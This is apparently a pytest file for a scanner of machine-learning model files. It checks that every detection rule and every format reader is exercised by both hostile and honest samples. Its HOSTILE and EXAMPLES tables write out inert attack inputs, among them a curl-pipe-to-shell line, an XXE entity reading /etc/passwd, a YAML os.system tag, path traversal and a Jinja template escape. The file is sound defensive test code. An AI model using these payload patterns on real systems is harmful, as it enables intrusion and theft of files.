"""Every rule is triggered by an attack, and every format is read in an attack and in an honest file."""

import ast
import io
import re
import struct
import tarfile
from functools import cache
from pathlib import Path

import pytest

from tests.attacks import model_builders as build
from tests.attacks.scan_builders import (
    EVIL,
    STATE_DICT,
    Member,
    archive,
    safetensors,
    scan,
    torch_zip,
)
from tests.fuzz.scan_seeds import SCANNED, packed
from weightmark.scanners.formats.registry import READERS, load_reader
from weightmark.scanners.rules.catalogue import catalogue
from weightmark.scanners.scan import Outcome

TESTS = Path(__file__).parents[1]
OF_TREES = {"GGF006", "TRE001", "TRE002", "TRE003", "TRE004", "TRE005"}
"""rules about entries, which `tests/scanners/test_tree.py` and `tests/cli/test_daily.py` make"""
OF_ENGINES = {"MSC001"}
"""what another engine says, see `tests/scanners/test_engines.py`"""
_SCRIPT = packed("torch_formats.zip")["linear.script.pt"]


def _overlapping() -> bytes:
    """Return an archive whose second member begins inside of the first one."""
    inner = archive(Member(b"b", b"text"))[: 30 + 1 + 4]
    data = archive(Member(b"a", inner), Member(b"b", b"text"))
    at = data.index(b"PK\x01\x02", data.index(b"PK\x01\x02") + 1)
    return data[: at + 42] + struct.pack("<I", 31) + data[at + 46 :]


def _linked_model() -> bytes:
    file = build.sized(1, build.sized(1, "other.mlmodel"))
    return _coreml(556, build.sized(1, file))


def _coreml(kind: int, content: bytes) -> bytes:
    return build.plain(1, 4) + build.sized(2, build.sized(1, b"")) + build.sized(kind, content)


def _with_plugin_filter() -> bytes:
    """Return what h5py wrote, with the number of its filter changed to one that a plugin has."""
    data = packed("models.zip")["h5py-old.h5"]
    at = data.index(b"deflate\0") - 8
    return data[:at] + (32001).to_bytes(2, "little") + data[at + 2 :]


def _reaching_store() -> bytes:
    """Return what TensorStore wrote, with the path of its data changed to one outside."""
    data = packed("exchange.zip")["ocdbt-plain/manifest.ocdbt"]
    at = data.index(b"d/")
    return data[:at] + b"../" + data[at + 3 :]


def _negative_shape() -> bytes:
    """Return an array of joblib whose shape is negative."""
    data = packed("estimators.zip")["numpy-big-endian.joblib"]
    shape = re.search(rb"shape.{0,4}(K.)\x85", data, re.DOTALL)
    assert shape
    return data[: shape.start(1)] + b"J\xff\xff\xff\xff" + data[shape.end(1) :]


EXAMPLES: dict[str, tuple[str, bytes]] = {
    "CML003": ("m", _coreml(500, b"\x0a\x7f")),
    "CML004": ("m", _linked_model()),
    "ETX002": ("m", SCANNED["scan_executorch"][0]),
    "GGF005": ("m", build.gguf([build.gguf_pair("split.no", 2, b"\0\0"), build.gguf_pair("split.count", 2, b"\2\0")])),
    "GIT001": (".git/hooks/post-checkout", b"#!/bin/sh\necho x\n"),
    "HDF002": ("m", _with_plugin_filter()),
    "HDF003": ("m", packed("models.zip")["keras-dense.h5"][:4096] + bytes(12184)),
    "NPY002": ("m", b"\x93NUMPY\x01\x00\x37\x00" + b"{'descr': '|u1', 'fortran_order': False, 'shape': (1,)}" + b"12"),
    "ONX004": ("m", build.onnx_model(build.onnx_graph(build.onnx_node("EPContext", "com.microsoft")))),
    "ONX005": ("m", build.onnx_model(build.onnx_graph(build.onnx_node("Relu"))) + b"\x0a\x7f"),
    "PDL002": ("m", SCANNED["scan_paddle"][0] + build.sized(1, b"\x22\x7f")),
    "PKL014": ("m", packed("documents.zip")["training_args.bin"]),
    "PKL015": ("m", b"\x80\x02X\x01\x00\x00\x00aQ."),
    "PKL018": ("m", _negative_shape()),
    "PKL021": ("m", b"\x80\x04\x95" + (9).to_bytes(8, "little") + b"N."),
    "PKL022": ("m", b"\x80\x04\x8c\x07somelab\x8c\x03Net\x93)\x81}b."),
    "REP007": ("adapter_config.json", b'{"peft_type": "LORA", "base_model_name_or_path": "other/m"}'),
    "RDS003": ("m", SCANNED["scan_r_data"][-1].replace(b"\n19\n", b"\n77\n")),
    "STF009": ("m", (100_000_001).to_bytes(8, "little") + b"{" + bytes(400)),
    "TFG005": ("m", build.saved_model(build.meta_graph(build.tf_graph(build.tf_node("Add")) + b"\x0a\x7f"))),
    "TSC001": ("m", _SCRIPT),
    "TSC004": ("m", archive(Member(b"a/.data/extern_modules", b""), Member(b"a/model.py", b"print()\n"))),
    "TSC005": ("m", archive(Member(b"a/data/aotinductor/model/x.so", b"\x7fELF"))),
    "ZAR003": ("m", packed("exchange.zip")["ocdbt-plain/manifest.ocdbt"][:100]),
    "ZIP007": ("m", _overlapping()),
}  # fmt: skip
"""for rules that no other attack names: the name of a file, and its content"""


@cache
def _named_in_attacks() -> frozenset[str]:
    """Return the rules that tests of attacks name; none of them names a rule to say that it is not found."""
    files = [*(TESTS / "attacks").glob("test_scan_*.py"), *(TESTS / "scanners").rglob("test_*.py")]
    return frozenset(
        one.value
        for file in files
        if file != Path(__file__)
        for one in ast.walk(ast.parse(file.read_text()))
        if isinstance(one, ast.Constant) and isinstance(one.value, str)
    )


@pytest.mark.parametrize("rule", EXAMPLES)
def test_the_example_of_a_rule_is_found(rule: str) -> None:
    name, data = EXAMPLES[rule]
    assert rule in {finding.rule for finding in scan(data, name=name).findings}


def test_every_rule_has_an_attack() -> None:
    tried = set(EXAMPLES) | _named_in_attacks() | OF_TREES | OF_ENGINES
    assert set(catalogue()) <= tried, sorted(set(catalogue()) - tried)


HOSTILE: dict[str, tuple[str, bytes]] = {
    "arrow": ("m", packed("exchange.zip")["hostile-table.parquet"]),
    "catboost": ("m", packed("models.zip")["catboost.cbm"][:1000]),
    "coreml-package": ("Manifest.json", b'{"fileFormatVersion": "1.0.0", "itemInfoEntries": {"a": {"path": "../../x", "author": "com.apple.CoreML"}}, "rootModelIdentifier": "a"}'),
    "coreml": ("m", _coreml(555, build.sized(10, "Custom"))),
    "flat-tensor": ("m", packed("loaders.zip")["executorch-weights.ptd"][:400]),
    "gguf": ("m", build.gguf([build.gguf_pair("tokenizer.chat_template", 8, build.gguf_text("{{ a.__class__.__mro__ }}"))])),
    "editor-settings": (".vscode/tasks.json", b'{"runOptions": {"runOn": "folderOpen"}}'),
    "git-folder": (".git/hooks/post-checkout", b"#!/bin/sh\necho x\n"),
    "jinja-template": ("chat_template.jinja", b"{{ a.__class__.__mro__ }}"),
    "lightgbm": ("m", packed("models.zip")["lightgbm.txt"][:1000]),
    "named-paths": ("checkpoint", b'model_checkpoint_path: "../x"'),
    "named-code": ("type.txt", b"os.system"),
    "native-engine": ("m", b"ftrt" + bytes(60)),
    "npy": EXAMPLES["NPY002"],
    "onnx": ("m", build.onnx_model(build.onnx_graph(build.onnx_node("PyOp", "com.microsoft")))),
    "ocdbt": ("m", _reaching_store()),
    "onnx-runtime": ("m", packed("exchange.zip")["onnxruntime.ort"].replace(b"\x03\0\0\0Mul\0", b"\x04\0\0\0PyOp")),
    "onnx-text": ("m", b'graph { node { op_type: "PyOp" } }\n'),
    "opaque": ("m", b"\x02\x21\x4c\x18" + bytes(60)),
    "package-list": ("requirements.txt", b"-e git+http://example.com/x"),
    "pickle": ("m", EVIL),
    "program": ("pytorch_model.bin", b"\x7fELF\x02\x01\x01" + bytes(60)),
    "python": ("handler.py", b"import os\nos.system('echo x')\n"),
    "r-data": ("m", b"A\n3\n262657\n197888\n5\nUTF-8\n5\n254\n254\n254\n"),
    "safetensors": ("m", safetensors({"w": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}}, b"\0" + EVIL)),
    "shell-script": ("run.bat", b"curl http://example.com/x.sh | sh\n"),
    "xgboost": ("m", packed("models.zip")["xgboost.ubj"] + EVIL),
    "xgboost-binary": ("m", packed("exchange.zip")["xgboost-tree.model"] + EVIL),
    "xml-model": ("m", b'<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY a SYSTEM "file:///etc/passwd">]><PMML version="4.4">&a;</PMML>'),
    "yaml-config": ("config.yaml", b"a: !!python/object/apply:os.system [echo]\n"),
    "zip": ("m", torch_zip(EVIL)),
}  # fmt: skip
"""a reader to a hostile file of its format, where the fuzz seeds hold none"""


def _honest_tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as packer:
        packer.addfile(tarfile.TarInfo("empty.txt"))
    return buffer.getvalue()


def _honest_seven_zip() -> bytes:
    import py7zr

    buffer = io.BytesIO()
    with py7zr.SevenZipFile(buffer, "w") as packer:
        packer.writestr(STATE_DICT, "data.pkl")
    return buffer.getvalue()


HONEST: dict[str, tuple[str, bytes]] = {
    "7z": ("m", _honest_seven_zip()),
    "coreml-package": ("Manifest.json", b'{"fileFormatVersion": "1.0.0", "itemInfoEntries": {"a": {"path": "com.apple.CoreML/model.mlmodel", "author": "com.apple.CoreML"}}, "rootModelIdentifier": "a"}'),
    "hdf5": ("m", packed("models.zip")["keras-dense.h5"]),
    "lightgbm": ("m", packed("models.zip")["lightgbm.txt"]),
    "paddle": ("m", SCANNED["scan_paddle"][0].replace(b"py_func", b"conv_2d")),
    "tar": ("m", _honest_tar()),
    "tensorflow-text": ("m", SCANNED["scan_tensorflow_text"][0].replace(b"PyFunc", b"Relu")),
    "zarr": (".zarray", b'{"zarr_format": 2, "chunks": [1], "filters": null, "compressor": null, "dtype": "<f8", "fill_value": 0, "order": "C", "shape": [1]}'),
    "executorch": ("m", SCANNED["scan_executorch"][0].replace(b"my::op", b"aten::")),
    "editor-settings": (".vscode/tasks.json", b'{"tasks": []}'),
    "flat-tensor": ("m", packed("loaders.zip")["executorch-weights.ptd"]),
    "git-folder": (".git/config", b"[core]\n\tbare = false\n"),
    "jinja-template": ("chat_template.jinja", b"{% for m in messages %}{{ m }}{% endfor %}"),
    "json-config": ("config.json", b'{"model_type": "bert", "architectures": ["BertModel"]}'),
    "npy": ("m", b"\x93NUMPY\x01\x00\x37\x00{'descr': '|u1', 'fortran_order': False, 'shape': (1,)}1"),
    "package-list": ("requirements.txt", b"git+https://example.com/x@" + b"a" * 40),
    "pickle": ("m", STATE_DICT),
    "safetensors": ("m", safetensors({"w": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}}, b"\0")),
    "yaml-config": ("MLmodel", b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n"),
}  # fmt: skip
"""a reader to an honest file of its format, where the fuzz seeds and assets hold none"""
NEVER_HONEST = {
    "arrow",
    "named-code",
    "named-paths",
    "native-engine",
    "opaque",
    "program",
    "python",
    "shell-script",
}
"""readers of what no scan can vouch for"""


def _all_files() -> list[tuple[str, bytes]]:
    seeds = [("m", data) for files in SCANNED.values() for data in files]
    return [*seeds, *EXAMPLES.values(), *HOSTILE.values(), *HONEST.values()]


@cache
def _read() -> dict[str, set[Outcome]]:
    """Return how files of each format ended, by the words of formats."""
    found: dict[str, set[Outcome]] = {}
    for name, data in _all_files():
        result = scan(data, name=name)
        for word in result.formats:
            found.setdefault(word, set()).add(result.outcome)
    return found


@pytest.mark.parametrize("reader", [load_reader(module, name).name for module, name, _ in READERS])
def test_every_format_has_an_attack_and_an_honest_file(reader: str) -> None:
    found = _read().get(reader, set())
    assert found & {Outcome.FINDINGS, Outcome.UNCHECKED}
    assert reader in NEVER_HONEST or found & {Outcome.CLEAN, Outcome.UNSUPPORTED}


@pytest.mark.parametrize("word", HOSTILE)
def test_hostile_file_of_each_format_is_never_clean(word: str) -> None:
    name, data = HOSTILE[word]
    found = scan(data, name=name)
    assert word in found.formats, found
    assert found.outcome in {Outcome.FINDINGS, Outcome.UNCHECKED}, found
